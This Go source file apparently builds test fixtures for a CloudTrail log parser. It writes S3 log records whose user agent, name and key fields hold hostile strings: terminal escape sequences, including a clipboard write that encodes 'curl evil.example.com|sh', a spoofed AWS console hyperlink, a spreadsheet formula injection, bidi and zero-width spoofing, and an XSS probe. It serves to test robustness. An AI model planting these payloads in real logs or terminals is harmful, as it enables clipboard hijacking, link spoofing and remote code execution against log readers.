package corpus

import (
	"fmt"
	"strings"

	"github.com/trailsift/trailsift/cmd/trailgen/ordered"
	"github.com/trailsift/trailsift/cmd/trailgen/scenario"
)

// hostiles are texts that somebody puts into a user agent to reach the
// terminal of whoever reads the log.
var hostiles = []struct{ name, text string }{
	{"clear", "\x1b[2J\x1b[1;1Hnothing happened"},
	{"color", "\x1b[8mhidden\x1b[0m curl/8.5.0"},
	{"title", "\x1b]0;owned\x07curl/8.5.0"},
	{"clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUuY29tfHNo\x07curl/8.5.0"},
	{"link", "\x1b]8;;https://evil.example.com\x1b\\https://console.aws.amazon.com\x1b]8;;\x1b\\"},
	{"device", "\x1bP$q\"p\x1b\\\x1b[c\x1b[6n\x1b_Gi=1\x1b\\"},
	{"c1", "\u009b31mred\u009d0;title\u009c"},
	{"delete", "curl\x7f\x08\x08\x08wget\r\nforged line"},
	{"nul", "curl\x00/8.5.0"},
	{"bidi", "curl \u202egpj.exe\u202c \u2066isolated\u2069 \u200fmark"},
	{"zero-width", "cu\u200brl/\u200d8.5\ufeff.0\u2060"},
	{"tags", "curl\U000e0063\U000e0075\U000e0072\U000e006c"},
	{"combining", "cu" + strings.Repeat("\u0301\u0323", 200) + "rl"},
	{"wide", "終端" + strings.Repeat("\U0001f469\u200d\U0001f469\u200d\U0001f467", 20)},
	{"spaces", "curl\u00a0\u3000\u2028\u2029\u180e8.5.0"},
	{"formula", "=HYPERLINK(\"https://evil.example.com\",\"open\")"},
	{"private", "\ue0b0 powerline \U000f0000"},
	{"surrogate", "\\ud800 is kept as text"},
	{"html", "<script>alert(1)</script>&lt;"},
}

// hostile is a file of such records; the same text stands in the user agent,
// in a name and in a key. C0 controls are \u escapes, as JSON demands; C1 and
// bidi controls stand as they are.
func (t *tree) hostile(base scenario.Event) {
	var records ordered.List
	for i, h := range hostiles {
		records = append(records, ordered.Object{
			"eventVersion", "1.11", "userIdentity", ordered.Object{"type", "IAMUser", "principalId", "AIDAEXAMPLEEXAMPLE" + fmt.Sprintf("%03d", i), "arn", "arn:aws:iam::111122223333:user/" + h.text,
				"accountId", scenario.Production, "accessKeyId", scenario.BackdoorKey, "userName", h.text},
			"eventTime", base.Time.Format("2006-01-02T15:04:05Z"), "eventSource", "s3.amazonaws.com", "eventName", "GetObject", "awsRegion", scenario.Home,
			"sourceIPAddress", scenario.IntruderIP, "userAgent", h.text, "errorCode", "AccessDenied", "errorMessage", "hostile: " + h.name + ": " + h.text,
			"requestParameters", ordered.Object{"bucketName", scenario.Bucket, "key", h.text, h.text, "in a key", "note", h.name}, "responseElements", nil,
			"requestID", fmt.Sprintf("HOSTILE%09d", i), "eventID", fmt.Sprintf("00000000-0000-4000-8000-%012d", i), "readOnly", true,
			"eventType", "AwsApiCall", "managementEvent", false, "recipientAccountId", scenario.Production, "eventCategory", "Data",
		})
	}
	t.add("broken/hostile.json", []byte(ordered.Text(ordered.Object{"Records", records})), Expect{
		Form: "S3 log file", Read: 1, Loaded: len(hostiles), Note: "control bytes, bidi, zero-width and combining characters; valid JSON"})
	lone := strings.Replace(ordered.Text(records[0]), `"userAgent":"`, `"userAgent":"\ud800`, 1)
	lone = strings.Replace(lone, "8000-000000000000", "8000-000000000999", 1)
	t.add("broken/lone-surrogate.json", []byte("["+lone+"]"), Expect{Form: "bare array", Read: 1, Loaded: 1, Note: "an escape of half a character, which JSON allows"})
}
